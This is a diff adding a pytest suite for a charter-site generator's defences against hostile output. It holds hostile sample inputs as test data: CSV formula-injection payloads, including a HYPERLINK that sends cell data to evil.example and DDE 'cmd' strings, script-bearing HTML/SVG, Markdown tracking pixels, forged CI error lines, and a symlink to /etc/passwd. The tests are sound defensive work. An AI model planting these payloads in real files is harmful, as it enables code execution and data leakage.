@@ -1,0 +1,650 @@
+"""Hostile input on the output side: linked files, spreadsheet formulas, JSON numbers,
+Markdown in the PR comment, control characters in printed locations, huge variant
+counts, broken templates and unwritable output folders.
+
+docs/security.md describes each defence; these tests hold it.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import os
+import re
+import shutil
+import signal
+import subprocess
+import sys
+import time
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+from urllib.request import urlopen
+
+import pytest
+from helpers import MINIMAL_BLOCKS, ScratchProject, at, parse_html, run_cli
+
+from generator.formatting import escape_markdown, escape_message, spreadsheet_cell
+
+PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 24
+PDF = b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF\n"
+SCRIPT_HTML = b"<html><body><script>alert(document.domain)</script></body></html>\n"
+SCRIPT_SVG = (
+    b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script></svg>\n'
+)
+
+
+def strict_json(text: str) -> Any:
+    """JSON as the standard defines it: `Infinity` and `NaN` are errors."""
+
+    def refuse(name: str) -> None:
+        raise ValueError(f"{name} is not JSON")
+
+    return json.loads(text, parse_constant=refuse)
+
+
+def links_charter(project: ScratchProject, links: list[tuple[str, str]]) -> str:
+    """The minimal charter with `links` (title, url) as its last block; returns the YAML."""
+    return project.charter("routing", links=[{"title": t, "url": u} for t, u in links])
+
+
+# --- linked files: an allow-list of inert types ---------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("name", "content"),
+    [
+        ("notes/page.html", SCRIPT_HTML),
+        ("notes/PAGE.HTM", SCRIPT_HTML),
+        ("diagram.svg", SCRIPT_SVG),
+        ("diagram.Svg", SCRIPT_SVG),
+        ("app.js", b"alert(document.domain)\n"),
+        ("app.mjs", b"alert(document.domain)\n"),
+        ("page.xhtml", SCRIPT_HTML),
+        ("feed.xml", b"<?xml version='1.0'?><x/>\n"),
+        ("Makefile", b"all:\n"),
+        ("fake.png", SCRIPT_HTML),
+        ("fake.pdf", SCRIPT_HTML),
+        ("readme.txt", b"  <script>alert(1)</script>\n"),
+        ("readme.md", b"<!-- a comment --><img src=x onerror=alert(1)>\n"),
+        ("data.csv", b"<html>\n"),
+        ("data.json", b"\xef\xbb\xbf<?xml version='1.0'?>\n"),
+        ("latin1.txt", "caf\u00e9".encode("latin-1")),
+        ("nul.txt", b"text\x00more"),
+    ],
+)
+def test_a_linked_file_that_could_run_is_refused_at_its_link(
+    scratch_project: ScratchProject, name: str, content: bytes
+) -> None:
+    text = links_charter(scratch_project, [("Design doc", name)])
+    scratch_project.write(f"charters/routing/{name}", content)
+    result = run_cli("build", "--source", scratch_project.root, "--out", scratch_project.out)
+    assert result.exit_code == 1, result.output
+    where = at(text, "url: ", name)
+    line = next(x for x in result.stderr.splitlines() if "links[0].url" in x)
+    assert line.startswith(f"charters/routing/charter.yaml:{where}: links[0].url: {name!r}")
+    assert "cannot be published" in line
+    assert not scratch_project.out.exists()
+    assert "Traceback" not in result.output
+
+    checked = run_cli("check", "--source", scratch_project.root, "--format", "json")
+    assert checked.exit_code == 1
+    findings = strict_json(checked.stdout)["charters"][0]["findings"]
+    assert [
+        (f["code"], f["line"], f["severity"]) for f in findings if f["field"] == "links[0].url"
+    ] == [("link-type", int(where.split(":")[0]), "error")]
+
+
+def test_inert_linked_files_are_published_text_as_text(scratch_project: ScratchProject) -> None:
+    files = {
+        "docs/design.pdf": PDF,
+        "img/flow.png": PNG,
+        "img/photo.JPG": b"\xff\xd8\xff\xe0" + b"\x00" * 16,
+        "img/anim.gif": b"GIF89a" + b"\x00" * 16,
+        "img/pic.webp": b"RIFF\x10\x00\x00\x00WEBPVP8 " + b"\x00" * 8,
+        "notes.txt": b"Notes: <b>not markup</b> in the middle is text.\n",
+        "README.md": b"# Title\n\n<script>alert(1)</script> after text stays text.\n",
+        "data/raw.json": b'{"a": 1}\n',
+    }
+    links_charter(scratch_project, [(name, name) for name in files])
+    for name, content in files.items():
+        scratch_project.write(f"charters/routing/{name}", content)
+    result = scratch_project.build()
+    assert result.ok, [d.format_text() for d in result.diagnostics]
+    for name, content in files.items():
+        assert (scratch_project.out / "charters/routing" / name).read_bytes() == content, name
+
+
+def test_a_linked_csv_has_its_formulas_neutralised(scratch_project: ScratchProject) -> None:
+    links_charter(scratch_project, [("Raw", "raw.csv"), ("Clean", "clean.csv")])
+    raw = (
+        "name,value,link\r\n"
+        'a,-5,"=HYPERLINK(""http://evil.example/?""&A1,""Click"")"\r\n'
+        "b,+3.5,@SUM(1+1)*cmd|' /C calc'!A0\r\n"
+        'c,1e-3,"\tleading tab"\r\n'
+    )
+    clean = "name,value\na,-5\nb,+2\n"
+    scratch_project.write("charters/routing/raw.csv", raw)
+    scratch_project.write("charters/routing/clean.csv", clean)
+    assert scratch_project.build().ok
+    out = scratch_project.out / "charters/routing"
+    rows = list(csv.reader(io.StringIO((out / "raw.csv").read_text(encoding="utf-8"))))
+    assert rows == [
+        ["name", "value", "link"],
+        ["a", "-5", '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'],
+        ["b", "+3.5", "'@SUM(1+1)*cmd|' /C calc'!A0"],
+        ["c", "1e-3", "'\tleading tab"],
+    ]
+    assert (out / "raw.csv").read_bytes().count(b"\r\n") == 4  # line ends kept
+    assert (out / "clean.csv").read_text(encoding="utf-8") == clean  # untouched: same bytes
+
+
+# --- CSV downloads: no formulas --------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("cell", "expected"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
+        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
+        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("-5", "-5"),
+        ("+0.25", "+0.25"),
+        ("-1.5e-3", "-1.5e-3"),
+        ("plain note", "plain note"),
+        ("", ""),
+    ],
+)
+def test_spreadsheet_cell_follows_the_owasp_rule(cell: str, expected: str) -> None:
+    assert spreadsheet_cell(cell) == expected
+
+
+def test_results_csv_download_neutralises_formulas(scratch_project: ScratchProject) -> None:
+    scratch_project.charter("routing")
+    scratch_project.write(
+        "charters/routing/results/ab.csv",
+        "date,metric,variant,value,note\n"
+        '2026-05-04,ttfr,control,6.1,"=HYPERLINK(""http://evil.example"",""x"")"\n'
+        "2026-05-04,ttfr,@treat,-5.0,+cmd|' /C calc'!A0\n",
+    )
+    result = scratch_project.build()
+    assert result.ok, [d.format_text() for d in result.diagnostics]
+    text = (scratch_project.out / "charters/routing/results.csv").read_text(encoding="utf-8")
+    rows = list(csv.DictReader(io.StringIO(text)))
+    assert sorted((r["variant"], r["value"], r["note"]) for r in rows) == [
+        ("'@treat", "-5", "'+cmd|' /C calc'!A0"),
+        ("control", "6.1", '\'=HYPERLINK("http://evil.example","x")'),
+    ]
+    # The JSON download keeps the values as written: it is not for spreadsheets.
+    data = strict_json((scratch_project.out / "charters/routing/results.json").read_text())
+    assert sorted(r["variant"] for r in data["rows"]) == ["@treat", "control"]
+
+
+# --- JSON: never Infinity or NaN --------------------------------------------------------------
+
+DENORMAL = (
+    MINIMAL_BLOCKS["business_metrics"]
+    .replace("direction: decrease", "direction: increase")
+    .replace("baseline: {value: 6.2}", "baseline: {value: 0.0}")
+    .replace("target: {value: 4.5}", "target: {value: 5.0e-324}")
+)
+
+
+def denormal_project(project: ScratchProject) -> None:
+    project.charter("routing", business_metrics=DENORMAL)
+    project.write(
+        "charters/routing/results/ab.csv",
+        "date,metric,variant,value\n2026-05-04,ttfr,,1.0\n",
+    )
+
+
+def test_api_json_is_valid_with_a_denormal_target(scratch_project: ScratchProject) -> None:
+    denormal_project(scratch_project)
+    result = scratch_project.build()
+    assert result.ok, [d.format_text() for d in result.diagnostics]
+    for path in sorted(scratch_project.out.rglob("*.json")):
+        strict_json(path.read_text(encoding="utf-8"))  # every JSON file of the site
+    api = strict_json((scratch_project.out / "api/charters.json").read_text(encoding="utf-8"))
+    metric = api["charters"][0]["business_metrics"][0]
+    assert metric["target"] == 5e-324
+    assert metric["progress"] is None  # infinitely far past the target: not a number
+    assert metric["target_met"] is True
+
+
+def test_check_json_is_valid_with_a_denormal_target(scratch_project: ScratchProject) -> None:
+    denormal_project(scratch_project)
+    result = run_cli("check", "--source", scratch_project.root, "--format", "json")
+    data = strict_json(result.stdout)
+    assert data["charters"][0]["metrics"][0]["progress"] is None
+    assert "Infinity" not in result.stdout and "NaN" not in result.stdout
+
+
+def test_diff_json_is_valid_with_a_denormal_target(
+    scratch_project: ScratchProject, tmp_path: Path
+) -> None:
+    before = tmp_path / "before"
+    scratch_project.charter("routing")
+    shutil.copytree(scratch_project.root, before)
+    denormal_project(scratch_project)
+    result = run_cli(
+        "diff", before, scratch_project.root, "--source", scratch_project.root, "--format", "json"
+    )
+    assert result.exit_code == 0, result.output
+    data = strict_json(result.stdout)
+    (added,) = [c for c in data["changes"] if c["kind"] == "results-added"]
+    assert added["after"]["progress"] is None
+
+
+# --- the PR comment: charter text is never live Markdown --------------------------------------
+
+HOSTILE_TITLE = (
+    "Hi @acme/security-team and @octocat ![pixel](https://tracker.example/p.png)"
+    " [click](javascript:alert(1)) <img src=x onerror=alert(1)> fixes #12,"
+    " see https://evil.example and www.evil.example **bold** _it_ `code` ~~s~~ | pipe"
+    " &#64;entity \\ back"
+)
+
+
+def assert_no_live_markdown(text: str) -> None:
+    """Nothing of `text` is Markdown syntax once its backslash escapes are taken out."""
+    bare = re.sub(r"\\.", "", text, flags=re.DOTALL)
+    for raw in "<>[]()!*_`~|&":
+        assert raw not in bare, (raw, text)
+    for raw in ("https://", "www.", "@acme", "@octocat", "@here", "#12"):
+        assert raw not in text, (raw, text)
+
+
+def test_escape_markdown_leaves_no_live_syntax() -> None:
+    text = escape_markdown(HOSTILE_TITLE + "\n- not a list\n# not a heading\x1b[31m")
+    assert "\n" not in text and "\x1b" not in text
+    assert_no_live_markdown(text)
+    # Shown as written: removing the escapes gives the text back.
+    shown = text.replace("\\", "").replace("\u200b", "")
+    assert shown.startswith("Hi @acme/security-team and @octocat ![pixel](https://tracker")
+    assert escape_markdown("- item") == "\\- item"
+    assert escape_markdown("12. item") == "12\\. item"
+    assert escape_markdown("6.2 hours (2026-11-08)") == "6.2 hours \\(2026-11-08\\)"
+
+
+def test_escape_markdown_round_trips_every_printable_character() -> None:
+    import string
+
+    for a in string.printable.strip():
+        for b in ("", "x", a, " //", "ww."):
+            text = f"{a}{b}{a} w{a}{b}"
+            escaped = escape_markdown(text)
+            assert re.sub(r"\\(.)", r"\1", escaped).replace("\u200b", "") == text
+            bare = re.sub(r"\\.", "", escaped)
+            assert not set(bare) & set("<>[]()!*_`~|&\\"), (text, escaped)
+
+
+def test_escape_message_keeps_generated_code_spans_and_escapes_the_rest() -> None:
+    message = "`ttfr` agreed.by: Ana → @team ![p](https://t.example/p.png) a`b (re-agreed)"
+    assert escape_message(message) == (
+        "`ttfr` agreed.by: Ana → @\u200bteam \\!\\[p\\]\\(https\\://t.example/p.png\\)"
+        " a\\`b \\(re-agreed\\)"
+    )
+    # A line start is escaped only at the start; control characters never pass.
+    assert escape_message("- x `id` - y\n# z\x1b") == "\\- x `id` - y \\#\u200b z\ufffd"
+    assert escape_message("`a\x1b`b`") == "`a\ufffd`b\\`"
+
+
+def test_diff_comment_shows_hostile_titles_as_text(
+    scratch_project: ScratchProject, tmp_path: Path
+) -> None:
+    before = tmp_path / "before"
+    scratch_project.charter("routing")
+    shutil.copytree(scratch_project.root, before)
+    scratch_project.charter(
+        "routing",
+        title=json.dumps(HOSTILE_TITLE),
+        status="experiment",
+        business_metrics=MINIMAL_BLOCKS["business_metrics"].replace(
+            "unit: hours", "unit: '@here ![t](https://t.example/u.png)'"
+        ),
+    )
+    scratch_project.write(
+        "charters/routing/results/ab.csv", "date,metric,variant,value\n2026-05-04,ttfr,,5.0\n"
+    )
+    result = run_cli("diff", before, scratch_project.root, "--source", scratch_project.root)
+    assert result.exit_code == 0, result.output
+    comment = result.stdout
+    heading = next(x for x in comment.splitlines() if x.startswith("### `routing`"))
+    assert_no_live_markdown(heading.split("`routing`", 1)[1])
+    row = next(x for x in comment.splitlines() if x.startswith("| `ttfr`"))
+    # | metric | latest before | latest after | trend | progress | rows |: the cells that
+    # quote the charter's unit (the trend cell is the generator's own words).
+    cells = re.split(r"(?<!\\)\|", row)[1:-1]
+    assert len(cells) == 6, cells
+    assert_no_live_markdown(cells[2].replace("(2026-05-04)", ""))
+    assert_no_live_markdown(cells[4])
+    assert "@\u200bhere" in cells[2] and "@\u200bhere" in cells[4]
+    heading = next(x for x in comment.splitlines() if x.startswith("### `routing`"))
+    assert re.sub(r"\\(.)", r"\1", heading).replace("\u200b", "").endswith(HOSTILE_TITLE)
+
+
+HOSTILE_NAME = "@acme/security-team ![p](https://t.example/p.png) **CFO** `x` | y"
+
+
+def test_diff_comment_escapes_signatories_in_flagged_goalposts(
+    scratch_project: ScratchProject, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """A re-agreed goalpost names who re-agreed: charter text, escaped like a title."""
+    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1780272000")  # 2026-06-01
+    agreed = "\n    agreed: {by: [Ana Ruiz], on: 2026-01-10}"
+    metrics = MINIMAL_BLOCKS["business_metrics"] + agreed
+    before = tmp_path / "before"
+    scratch_project.charter("routing", business_metrics=metrics)
+    shutil.copytree(scratch_project.root, before)
+    hostile = metrics.replace("target: {value: 4.5}", "target: {value: 4.0}").replace(
+        "by: [Ana Ruiz], on: 2026-01-10", f"by: [{json.dumps(HOSTILE_NAME)}], on: 2026-06-01"
+    )
+    scratch_project.charter("routing", business_metrics=hostile)
+    result = run_cli("diff", before, scratch_project.root, "--source", scratch_project.root)
+    assert result.exit_code == 0, result.output
+    flagged = [x for x in result.stdout.splitlines() if x.startswith("- 🚩 ")]
+    moved = next(x for x in flagged if "target.value" in x)
+    assert moved.startswith(
+        "- 🚩 `ttfr` target.value: 4.5 → 4 \\(more ambitious\\); re-agreed by @\u200bacme"
+    )
+    assert len(flagged) >= 2  # the signatory dropped is an agreement change too
+    for line in flagged:
+        # Generated code spans stay code; the rest is inert and shows the names as written.
+        text = re.sub(r"(?<!\\)`[^`]*`", "", line.removeprefix("- 🚩 "))
+        assert_no_live_markdown(text)
+        shown = re.sub(r"\\(.)", r"\1", line).replace("\u200b", "")
+        assert HOSTILE_NAME.replace("`", "'") in shown or HOSTILE_NAME in shown, line
+
+
+# --- control characters in printed locations --------------------------------------------------
+
+
+def test_a_newline_in_a_file_name_cannot_forge_an_output_line(
+    scratch_project: ScratchProject,
+) -> None:
+    scratch_project.charter("routing")
+    forged = "x\n::error file=site.yaml,line=1::forged\x1b[2J"
+    (scratch_project.root / "charters" / forged).mkdir()
+    for fmt in ("text", "github"):
+        result = run_cli("check", "--source", scratch_project.root, "--format", fmt)
+        assert result.exit_code == 1, result.output
+        lines = result.stdout.splitlines()
+        assert not [x for x in lines if x.startswith("::error file=site.yaml")], lines
+        assert "\x1b" not in result.stdout
+        assert any("x\\n::error" in x or "x%0A::error" in x for x in lines), lines
+    build = run_cli("build", "--source", scratch_project.root, "--out", scratch_project.out)
+    assert build.exit_code == 1
+    assert not [x for x in build.stderr.splitlines() if x.startswith("::error")]
+    assert "charters/x\\n::error file=site.yaml,line=1::forged\\x1b[2J" in build.stderr
+
+
+def test_a_newline_in_a_kept_file_name_cannot_forge_a_summary_line(
+    scratch_project: ScratchProject,
+) -> None:
+    scratch_project.charter("routing")
+    assert run_cli("build", "--source", scratch_project.root, "--out", scratch_project.out)
+    forged = "notes\n::error file=site.yaml,line=1::forged\x1b[2J"
+    (scratch_project.out / forged).write_text("mine\n", encoding="utf-8")
+    result = run_cli("build", "--source", scratch_project.root, "--out", scratch_project.out)
+    assert result.exit_code == 0, result.output
+    assert not [x for x in result.output.splitlines() if x.startswith("::error")]
+    assert "\x1b" not in result.output
+    assert "kept 1 file not written by charters: notes\\n::error" in result.stdout
+    assert (scratch_project.out / forged).read_text(encoding="utf-8") == "mine\n"
+
+
+# --- 10,000 variants: a chart draws the top few -----------------------------------------------
+
+
+def test_ten_thousand_variants_build_in_seconds(scratch_project: ScratchProject) -> None:
+    scratch_project.charter("routing", status="experiment")
+    lines = ["date,metric,variant,value", "2026-05-04,ttfr,control,6.0"]
+    lines += [f"2026-05-04,ttfr,v{i:05d},{5 + (i % 100) / 100}" for i in range(10_000)]
+    lines += ["2026-05-11,ttfr,v09999,4.9"]
+    scratch_project.write("charters/routing/results/many.csv", "\n".join(lines) + "\n")
+    started = time.perf_counter()
+    result = scratch_project.build()
+    elapsed = time.perf_counter() - started
+    assert result.ok, [d.format_text() for d in result.diagnostics][:5]
+    assert elapsed < 60, f"{elapsed:.1f} s"  # about 5 s; 1,000 variants took 46 s before
+    page = parse_html(scratch_project.out / "charters/routing/index.html")
+    alt = page.find("img", src="ttfr.svg").attrs["alt"] or ""
+    assert alt.endswith("+9,992 more variants, see the data table.")
+    assert "v09999 5.99 → 4.90" in alt and "control 6.00" in alt  # most rows first
+    svg = (scratch_project.out / "charters/routing/ttfr.svg").read_text(encoding="utf-8")
+    assert "+9,992 more variants, see the data table" in svg
+    assert "v00500" not in svg  # left out of the chart ...
+    table = page.find("figure", id="chart-ttfr").find("table")
+    assert "v00500" in table.text()  # ... but in its data table
+
+
+def test_a_guardrail_with_ten_thousand_variants_builds_in_seconds(
+    scratch_project: ScratchProject,
+) -> None:
+    """Every row is judged against the tolerance; the chart and its table stay linear."""
+    scratch_project.charter(
+        "routing",
+        status="experiment",
+        measurement=MINIMAL_BLOCKS["measurement"]
+        + "\n  guardrails:"
+        + "\n    - {id: lat, name: Latency, unit: ms, direction: decrease,"
+        + " baseline: {value: 100}, tolerance: {value: 5}}",
+    )
+    lines = ["date,metric,variant,value"]
+    lines += [f"2026-05-04,lat,v{i:05d},{100 + (i % 10)}" for i in range(10_000)]
+    lines += ["2026-05-11,lat,v09999,120"]
+    scratch_project.write("charters/routing/results/many.csv", "\n".join(lines) + "\n")
+    started = time.perf_counter()
+    result = scratch_project.build()
+    elapsed = time.perf_counter() - started
+    assert result.ok, [d.format_text() for d in result.diagnostics][:5]
+    assert elapsed < 60, f"{elapsed:.1f} s"
+    page = parse_html(scratch_project.out / "charters/routing/index.html")
+    alt = page.find("img", src="lat.svg").attrs["alt"] or ""
+    # 4,000 of the rows on 2026-05-04 are beyond 105 ms, and the one on 2026-05-11.
+    assert "beyond it on 2 of 2 dates, latest 2026-05-11 at 120" in alt
+    assert alt.endswith("+9,992 more variants, see the data table.")
+    table = page.find("figure", id="chart-lat").find("table")
+    assert table.text().count("beyond") == 4_001
+
+
+def test_control_look_alikes_are_capped_too() -> None:
+    from factory import charter_data, row, view
+
+    from generator.charts import chart_spec, describe
+
+    rows = [row("2026-05-04", "conv", 0.1)]  # production: always drawn
+    rows += [row("2026-05-04", "conv", 0.1, "control" + " " * i) for i in range(300)]
+    rows += [row("2026-05-04", "conv", 0.1, "Control"), row("2026-05-11", "conv", 0.1, "Control")]
+    rows += [row("2026-05-04", "conv", 0.2, f"arm {i}") for i in range(20)]
+    metric = view(charter_data(), rows).metric("conv")
+    assert metric is not None
+    started = time.perf_counter()
+    spec = chart_spec(metric)
+    assert time.perf_counter() - started < 5
+    labels = [s.label for s in spec.series]
+    assert labels[:2] == ["", "Control"] and len(labels) == 1 + 2 + 8
+    assert spec.hidden == 1 + 300 + 20 + 1 - len(labels)
+    assert describe(spec).endswith(f"+{spec.hidden} more variants, see the data table.")
+
+
+# --- templates: located errors ----------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("template", "expected"),
+    [
+        (
+            '{% extends "builtin/charter.html" %}\n{% block content %}\n{{ view.id }\n'
+            "{% endblock %}\n",
+            "templates/charter.html:3:1: template syntax error: unexpected '}'",
+        ),
+        (
+            '{% extends "builtin/charter.html" %}\n{% block content %}\n<p>\n'
+            "{{ no_such_value.title }}</p>\n{% endblock %}\n",
+            "templates/charter.html:4:1: template error: undefined value:"
+            " 'no_such_value' is undefined",
+        ),
+        (
+            "{% include 'missing.html' %}\n",
+            "templates/charter.html:1:1: template 'missing.html' not found",
+        ),
+    ],
+)
+def test_a_broken_template_is_a_located_error(
+    scratch_project: ScratchProject, template: str, expected: str
+) -> None:
+    scratch_project.charter("routing")
+    scratch_project.write("templates/charter.html", template)
+    result = run_cli("build", "--source", scratch_project.root, "--out", scratch_project.out)
+    assert result.exit_code == 1
+    assert "internal error" not in result.output
+    assert any(line.startswith(expected) for line in result.stderr.splitlines()), result.stderr
+    assert not scratch_project.out.exists()
+
+
+# --- output folders that cannot be written ----------------------------------------------------
+
+
+@pytest.fixture
+def small_mount(tmp_path: Path) -> Iterator[Path]:
+    """A 256 KB tmpfs, mounted for the test (needs root; skipped otherwise, failed in CI)."""
+    mount = tmp_path / "mnt"
+    mount.mkdir()
+    done = subprocess.run(
+        ["mount", "-t", "tmpfs", "-o", "size=256k", "tmpfs", str(mount)],
+        capture_output=True,
+        check=False,
+    )
+    if done.returncode != 0:
+        if os.environ.get("CI", "").lower() in ("true", "1", "yes"):
+            pytest.fail(f"cannot mount a tmpfs in CI: {done.stderr.decode().strip()}")
+        pytest.skip("mounting a tmpfs needs root")
+    try:
+        yield mount
+    finally:
+        subprocess.run(["umount", "-l", str(mount)], check=False)
+
+
+def test_a_full_disk_is_a_clear_message(scratch_project: ScratchProject, small_mount: Path) -> None:
+    scratch_project.charter("routing")
+    scratch_project.write("charters/routing/big.txt", "x" * 400_000)
+    scratch_project.charter("routing", links=[{"title": "Big", "url": "big.txt"}])
+    out = small_mount / "site"
+    result = run_cli("build", "--source", scratch_project.root, "--out", out)
+    assert result.exit_code == 1
+    assert "internal error" not in result.output
+    assert f"error: cannot write the site into {out}: No space left on device" in result.stderr
+    assert sorted(p.name for p in small_mount.iterdir()) == [".site.lock"]  # nothing half-written
+
+
+def test_a_read_only_output_folder_is_a_clear_message(
+    scratch_project: ScratchProject, small_mount: Path
+) -> None:
+    scratch_project.charter("routing")
+    out = small_mount / "site"
+    assert run_cli("build", "--source", scratch_project.root, "--out", out).exit_code == 0
+    before = sorted(p.relative_to(out) for p in out.rglob("*"))
+    subprocess.run(["mount", "-o", "remount,ro", str(small_mount)], check=True)
+    scratch_project.charter("routing", title="Changed")
+    result = run_cli("build", "--source", scratch_project.root, "--out", out)
+    assert result.exit_code == 1
+    assert "internal error" not in result.output
+    assert f"error: cannot write beside the output folder {out}: Read-only file system" in (
+        result.stderr
+    )
+    assert sorted(p.relative_to(out) for p in out.rglob("*")) == before
+
+
+# --- diff: committed links out of the tree ----------------------------------------------------
+
+
+@pytest.mark.parametrize("target", ["/etc/passwd", "../../../../outside.txt"])
+def test_diff_refuses_a_committed_link_out_of_the_tree(
+    scratch_project: ScratchProject, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, target: str
+) -> None:
+    if shutil.which("git") is None:
+        if os.environ.get("CI", "").lower() in ("true", "1", "yes"):
+            pytest.fail("git is not installed; CI must run the diff tests")
+        pytest.skip("git is not installed")
+    monkeypatch.setenv("GIT_CONFIG_GLOBAL", os.devnull)
+    monkeypatch.setenv("GIT_CONFIG_NOSYSTEM", "1")
+    root = scratch_project.root
+    scratch_project.charter("routing")
+
+    def git(*args: str) -> None:
+        subprocess.run(["git", *args], cwd=root, check=True, capture_output=True)
+
+    git("init", "-q")
+    git("-c", "user.name=T", "-c", "user.email=t@example.com", "add", "-A")
+    git("-c", "user.name=T", "-c", "user.email=t@example.com", "commit", "-qm", "one")
+    (root / "charters/routing/notes.txt").symlink_to(target)
+    git("-c", "user.name=T", "-c", "user.email=t@example.com", "add", "-A")
+    git("-c", "user.name=T", "-c", "user.email=t@example.com", "commit", "-qm", "two")
+    result = run_cli("diff", "HEAD~1", "HEAD", "--source", root)
+    assert result.exit_code == 2, result.output
+    assert "internal error" not in result.output and "root:" not in result.output
+    assert "charters/routing/notes.txt" in result.stderr
+    assert "only plain files, folders and links that stay inside the folder" in result.stderr
+
+
+# --- the preview serves linked text as text ---------------------------------------------------
+
+
+def test_serve_sends_linked_text_as_text_with_nosniff(scratch_project: ScratchProject) -> None:
+    links_charter(scratch_project, [("Notes", "notes.md"), ("Data", "data.csv")])
+    scratch_project.write(
+        "charters/routing/notes.md", "# Notes\n\nText <script>alert(1)</script>\n"
+    )
+    scratch_project.write("charters/routing/data.csv", "a,b\n1,=1+1\n")
+    proc = subprocess.Popen(
+        [
+            sys.executable,
+            "-m",
+            "generator",
+            "serve",
+            "--source",
+            scratch_project.root,
+            "--port",
+            "0",
+        ],
+        stdout=subprocess.PIPE,
+        stderr=subprocess.PIPE,
+        text=True,
+        env=dict(os.environ, PYTHONUNBUFFERED="1"),
+    )
+    try:
+        assert proc.stdout is not None
+        line = ""
+        deadline = time.monotonic() + 60
+        while "Serving" not in line and time.monotonic() < deadline:
+            line = proc.stdout.readline()
+            assert line or proc.poll() is None
+        url = line.split(" at ", 1)[1].split()[0]
+        for name, kind in (("notes.md", "text/markdown"), ("data.csv", "text/csv")):
+            with urlopen(url + "charters/routing/" + name, timeout=10) as response:
+                assert response.headers["Content-Type"].startswith(kind), name
+                assert response.headers["X-Content-Type-Options"] == "nosniff"
+                body = response.read().decode()
+        assert body == "a,b\n1,'=1+1\n"
+    finally:
+        proc.send_signal(signal.SIGINT)
+        proc.communicate(timeout=15)
+
+
+def test_an_output_folder_under_a_file_is_a_clear_message(
+    scratch_project: ScratchProject, tmp_path: Path
+) -> None:
+    scratch_project.charter("routing")
+    blocker = tmp_path / "a-file"
+    blocker.write_text("not a folder\n", encoding="utf-8")
+    out = blocker / "site"
+    result = run_cli("build", "--source", scratch_project.root, "--out", out)
+    assert result.exit_code == 1
+    assert "internal error" not in result.output and "Traceback" not in result.output
+    assert result.stderr.startswith(f"error: cannot write beside the output folder {out}: ")
+    assert blocker.read_text(encoding="utf-8") == "not a folder\n"
